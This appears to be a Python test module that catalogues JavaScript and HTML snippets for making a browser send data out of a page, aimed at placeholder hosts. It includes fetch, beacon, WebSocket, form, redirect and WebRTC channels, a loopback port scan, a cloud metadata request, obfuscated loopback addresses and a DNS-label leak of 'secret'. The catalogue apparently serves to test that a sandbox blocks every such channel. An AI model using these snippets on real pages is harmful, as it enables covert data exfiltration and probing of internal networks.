"""Ways out of a page: everything that a browser can be made to send a packet by, one page for each.

Each way has a server of its own to reach, so that what is heard tells who spoke: `@tcp@` stands for its
address and port, `@port@` and `@udp@` for the ports alone, `@foreign@`, `@foreign6@` and `@near@` for
addresses of no network, `@name@` for a name that nobody has, and `@away@` for a page of the site that redirects to the
server. All of them are heard where nothing holds a page back.
"""

from dataclasses import replace

from sites.hostile.document_ways import MARKUP, STYLES
from sites.hostile.way import NO_CORS, Way, worker_way
from sites.hostile.window_ways import DOWNLOADS, QUESTIONS, UPLOADS, WINDOWS
from sites.hostile.worker_ways import SERVICE_WORKERS, WORKERS

HOST = "ways.localhost"
ORIGIN = f"http://{HOST}"


def _webrtc(server: str, *, abroad: bool = False, before: str = "", where: str = "") -> Way:
    one = f"{{urls:'{server}',username:'a',credential:'b'}}"
    return Way(
        f"{before}const pc=new {where}RTCPeerConnection({{iceServers:[{one}]}});pc.createDataChannel('x');"
        "window.kept=pc;pc.createOffer().then(offer=>pc.setLocalDescription(offer))",
        datagrams=True,
        abroad=abroad,
        long="open(" in before,
    )


_CANDIDATES = """const a=new RTCPeerConnection(),b=new RTCPeerConnection();window.kept=[a,b];a.createDataChannel('x');
(async()=>{await a.setLocalDescription(await a.createOffer());await b.setRemoteDescription(a.localDescription);
await b.setLocalDescription(await b.createAnswer());await a.setRemoteDescription(b.localDescription);
await a.addIceCandidate({candidate:'candidate:1 1 %s',sdpMid:'0'})})()"""

SCRIPTS = {
    "fetch": Way(f"fetch('http://@tcp@/',{NO_CORS}).catch(()=>0)"),
    "fetch-tls": Way(f"fetch('https://@tcp@/',{NO_CORS}).catch(()=>0)"),
    "fetch-post": Way(
        "fetch('http://@tcp@/',{method:'POST',mode:'no-cors',body:'x'.repeat(9999)}).catch(()=>0)"
    ),
    "fetch-preflight": Way("fetch('http://@tcp@/',{headers:{'X-Odd':'1'}}).catch(()=>0)"),
    "fetch-user": Way(f"fetch(new Request('http://@tcp@/?secret',{NO_CORS})).catch(()=>0)"),
    "xhr": Way("const x=new XMLHttpRequest();x.open('GET','http://@tcp@/');x.send()"),
    "xhr-sync": Way(
        "const x=new XMLHttpRequest();x.open('GET','http://@tcp@/',false);try{x.send()}catch{}"
    ),
    "websocket": Way("new WebSocket('ws://@tcp@/')"),
    "websocket-tls": Way("new WebSocket('wss://@tcp@/')"),
    "event-source": Way("new EventSource('http://@tcp@/')"),
    "beacon": Way("navigator.sendBeacon('http://@tcp@/','x')"),
    "keepalive-at-the-end": Way(
        "addEventListener('pagehide',()=>fetch('http://@tcp@/',{keepalive:true,mode:'no-cors',method:'POST',body:'x'}));"
        "setTimeout(()=>location.href='/blank',50)"
    ),
    "beacon-at-the-end": Way(
        "addEventListener('pagehide',()=>navigator.sendBeacon('http://@tcp@/','x'));"
        "setTimeout(()=>location.href='/blank',50)"
    ),
    "import": Way("import('http://@tcp@/m.js').catch(()=>0)"),
    "script-element": Way(
        "document.head.append(Object.assign(document.createElement('script'),{src:'http://@tcp@/'}))"
    ),
    "module-element": Way(
        "document.head.append(Object.assign(document.createElement('script'),{type:'module',src:'http://@tcp@/'}))"
    ),
    "written-script": Way("document.write('<script src=http://@tcp@/><\\/script>')"),
    "wasm-stream": Way(
        f"WebAssembly.compileStreaming(fetch('http://@tcp@/',{NO_CORS})).catch(()=>0)"
    ),
    "audio-worklet": Way(
        "new OfflineAudioContext(1,1,8000).audioWorklet.addModule('http://@tcp@/').catch(()=>0)"
    ),
    "paint-worklet": Way("CSS.paintWorklet.addModule('http://@tcp@/').catch(()=>0)"),
    "scan": Way(
        f"for(let n=1;n<9;n++)fetch(`http://127.0.0.${{n}}:@port@/`,{NO_CORS}).catch(()=>0)"
    ),
    "fetch-later": Way("fetchLater('http://@tcp@/',{activateAfter:0})", long=True),
    "fetch-later-at-the-end": Way(
        "fetchLater('http://@tcp@/');setTimeout(()=>location.href='/blank',50)", long=True
    ),
    "import-of-a-style": Way("import('http://@tcp@/',{with:{type:'css'}}).catch(()=>0)"),
    "import-of-data": Way("import('http://@tcp@/',{with:{type:'json'}}).catch(()=>0)"),
    "cache": Way(
        f"caches.open('x').then(c=>c.add(new Request('http://@tcp@/',{NO_CORS}))).catch(()=>0)"
    ),
    "websocket-of-a-protocol": Way("new WebSocket('ws://@tcp@/',['odd','secret'])"),
    "websocket-by-http": Way("new WebSocket('http://@tcp@/')"),
    "websocket-stream": Way("new WebSocketStream('ws://@tcp@/').opened.catch(()=>0)"),
    "identity": Way(
        "navigator.credentials.get({identity:{providers:[{configURL:'https://@tcp@/c.json',clientId:'x'}]}}).catch(()=>0)"
    ),
}
"""Requests that scripts make."""

FRAMES = {
    "frame": Way(markup="<iframe src=http://@tcp@/></iframe>"),
    "frame-of-data": Way(markup="<iframe src='data:text/html,<img src=http://@tcp@/>'></iframe>"),
    "frame-of-text": Way(markup='<iframe srcdoc="<img src=http://@tcp@/>"></iframe>'),
    "frame-of-blob": Way(
        "const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<img src=http://@tcp@/>'],{type:'text/html'}));document.body.append(f)"
    ),
    "frame-of-script": Way(markup="<iframe src=\"javascript:'<img src=http://@tcp@/>'\"></iframe>"),
    "frame-sandboxed": Way(
        markup="<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('http://@tcp@/',{mode:'no-cors'})</script>\"></iframe>"
    ),
    "frame-of-nothing": Way(
        "const f=document.createElement('iframe');document.body.append(f);"
        f"f.contentWindow.fetch('http://@tcp@/',{NO_CORS}).catch(()=>0)"
    ),
    "frame-of-xml": Way(
        "const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(["
        "`<?xml-stylesheet type='text/css' href='http://@tcp@/'?><x/>`],{type:'text/xml'}));document.body.append(f)"
    ),
    "frame-of-a-set": Way(
        markup="<iframe srcdoc='<frameset><frame src=http://@tcp@/></frameset>'></iframe>"
    ),
    "frame-without-credentials": Way(markup="<iframe credentialless src=http://@tcp@/></iframe>"),
    "frame-by-and-by": Way(markup="<iframe loading=lazy src=http://@tcp@/></iframe>"),
    "frame-of-a-sandboxed-socket": Way(
        markup="<iframe sandbox=allow-scripts srcdoc=\"<script>new WebSocket('ws://@tcp@/')</script>\"></iframe>"
    ),
    "parent": Way(
        markup="<iframe srcdoc=\"<script>parent.location='http://@tcp@/'</script>\"></iframe>"
    ),
    "navigation": Way("setTimeout(()=>navigation.navigate('http://@tcp@/'),50)"),
    "object": Way(markup="<object data=http://@tcp@/></object>"),
    "embed": Way(markup="<embed src=http://@tcp@/>"),
    "form-post": Way(
        "document.forms[0].submit()",
        "<iframe name=f></iframe><form method=post target=f action=http://@tcp@/><input name=a></form>",
    ),
    "form-get": Way(
        "document.forms[0].submit()",
        "<form action=http://@tcp@/><input name=a value=secret></form>",
    ),
    "form-of-a-button": Way(
        "document.querySelector('form button').click()",
        "<iframe name=f></iframe><form target=f><button formaction=http://@tcp@/></button></form>",
    ),
    "window": Way("open('http://@tcp@/')", top=True),
    "window-alone": Way("open('http://@tcp@/','_blank','noopener')", long=True),
    "link": Way("document.links[0].click()", "<a href=http://@tcp@/>away</a>"),
    "link-in-a-window": Way(
        "document.links[0].click()", "<a target=_blank href=http://@tcp@/>x</a>", long=True
    ),
    "ping": Way("document.links[0].click()", "<a href=#x ping=http://@tcp@/>x</a>"),
    "location": Way("setTimeout(()=>location.href='http://@tcp@/',50)"),
    "location-replace": Way("setTimeout(()=>location.replace('http://@tcp@/'),50)"),
    "refresh-in-the-page": Way(markup="<meta http-equiv=refresh content='0;url=http://@tcp@/'>"),
    "refresh-in-a-header": Way(headers={"Refresh": "0;url=http://@tcp@/"}),
}
"""Documents and frames, forms and links."""

REDIRECTS = {
    "redirected-fetch": Way(f"fetch('@away@',{NO_CORS}).catch(()=>0)"),
    "redirected-post": Way(
        "fetch('@away@&code=307',{method:'POST',mode:'no-cors',body:'secret'}).catch(()=>0)"
    ),
    "redirected-image": Way(markup="<img src='@away@'>"),
    "redirected-frame": Way(markup="<iframe src='@away@'></iframe>"),
    "redirected-script": Way(markup="<script src='@away@'></script>"),
    "redirected-style": Way(markup="<link rel=stylesheet href='@away@'>"),
    "redirected-page": Way("setTimeout(()=>location.href='@away@',50)"),
    "redirected-media": Way(markup="<video src='@away@' autoplay muted></video>"),
}
"""By way of the site itself."""

NAMES = {
    "localhost": Way(f"fetch('http://localhost:@port@/',{NO_CORS}).catch(()=>0)"),
    "localhost-dot": Way(f"fetch('http://localhost.:@port@/',{NO_CORS}).catch(()=>0)"),
    "any.localhost": Way(f"fetch('http://odd.localhost:@port@/',{NO_CORS}).catch(()=>0)"),
    "zero": Way(
        markup="<form action=http://0.0.0.0:@port@/></form>", script="document.forms[0].submit()"
    ),
    "decimal": Way(f"fetch('http://2130706433:@port@/',{NO_CORS}).catch(()=>0)"),
    "hexadecimal": Way(f"fetch('http://0x7f000001:@port@/',{NO_CORS}).catch(()=>0)"),
    "octal": Way(f"fetch('http://0177.0.0.1:@port@/',{NO_CORS}).catch(()=>0)"),
    "short": Way(f"fetch('http://127.1:@port@/',{NO_CORS}).catch(()=>0)"),
    "second-loopback": Way(f"fetch('http://127.0.0.2:@port@/',{NO_CORS}).catch(()=>0)"),
    "far-loopback": Way(f"fetch('http://127.255.255.254:@port@/',{NO_CORS}).catch(()=>0)"),
    "loopback-of-six": Way(f"fetch('http://[::1]:@port@/',{NO_CORS}).catch(()=>0)"),
    "mapped": Way(f"fetch('http://[::ffff:127.0.0.1]:@port@/',{NO_CORS}).catch(()=>0)"),
    "user-and-password": Way(
        "setTimeout(()=>location.href='http://ways.localhost:80@@tcp@/',50)", top=True
    ),
    "abroad": Way(f"fetch('http://@foreign@/',{NO_CORS}).catch(()=>0)", abroad=True),
    "abroad-tls": Way(f"fetch('https://@foreign@/',{NO_CORS}).catch(()=>0)", abroad=True),
    "abroad-by-six": Way(f"fetch('http://[@foreign6@]/',{NO_CORS}).catch(()=>0)", abroad=True),
    "metadata": Way(
        f"fetch('http://@near@/latest/meta-data/',{NO_CORS}).catch(()=>0)", abroad=True
    ),
    "name": Way(f"fetch('http://@name@/',{NO_CORS}).catch(()=>0)", abroad=True),
    "name-of-a-socket": Way("new WebSocket('wss://@name@/')", abroad=True),
    "name-of-the-near-network": Way(
        f"fetch('http://@name@.local/',{NO_CORS}).catch(()=>0)", abroad=True
    ),
    "name-of-a-key": Way(
        "navigator.credentials.get({publicKey:{challenge:new Uint8Array(32),rpId:'@name@'}}).catch(()=>0)",
        abroad=True,
    ),
    "name-with-a-secret": Way("new Image().src='http://s-e-c-r-e-t.@name@/'", abroad=True),
}
"""Addresses as they may be written, and names."""

DATAGRAMS = {
    "webtransport": Way(
        "new WebTransport('https://127.0.0.1:@udp@/').ready.catch(()=>0)", datagrams=True
    ),
    "webtransport-by-hash": Way(
        "new WebTransport('https://127.0.0.1:@udp@/',{serverCertificateHashes:"
        "[{algorithm:'sha-256',value:new Uint8Array(32)}]}).ready.catch(()=>0)",
        datagrams=True,
    ),
    "webtransport-of-a-worker": replace(
        worker_way("new WebTransport('https://127.0.0.1:@udp@/').ready.catch(()=>0)"),
        datagrams=True,
    ),
    "stun": _webrtc("stun:127.0.0.1:@udp@"),
    "stun-abroad": _webrtc("stun:@foreign@:3478", abroad=True),
    "stun-of-a-window": _webrtc("stun:127.0.0.1:@udp@", before="const w=open('');", where="w."),
    "stun-of-a-sandbox": Way(
        markup='<iframe sandbox=allow-scripts srcdoc="<script>const pc=new RTCPeerConnection({iceServers:'
        "[{urls:'stun:127.0.0.1:@udp@'}]});pc.createDataChannel('x');window.kept=pc;"
        'pc.createOffer().then(offer=>pc.setLocalDescription(offer))</script>"></iframe>',
        datagrams=True,
    ),
    "turn": _webrtc("turn:127.0.0.1:@udp@?transport=udp"),
    "turn-by-tcp": _webrtc("turn:@tcp@?transport=tcp"),
    "turn-by-tls": _webrtc("turns:@tcp@?transport=tcp"),
    "candidate": Way(_CANDIDATES % "UDP 2130706431 127.0.0.1 @udp@ typ host", datagrams=True),
    "candidate-by-name": Way(
        _CANDIDATES % "UDP 2130706431 @name@ @udp@ typ host", datagrams=True, abroad=True
    ),
    "candidate-of-the-near-network": Way(
        _CANDIDATES % "UDP 2130706431 @name@.local @udp@ typ host", datagrams=True, abroad=True
    ),
    "candidate-by-tcp": Way(
        _CANDIDATES % "TCP 2130706431 127.0.0.1 @port@ typ host tcptype passive", datagrams=True
    ),
}
"""WebRTC and QUIC, which go past what is set up for requests."""

WAYS: dict[str, Way] = {
    **SCRIPTS,
    **WORKERS,
    **SERVICE_WORKERS,
    **FRAMES,
    **WINDOWS,
    **DOWNLOADS,
    **UPLOADS,
    **QUESTIONS,
    **REDIRECTS,
    **MARKUP,
    **STYLES,
    **NAMES,
    **DATAGRAMS,
}
"""All of them, by name."""
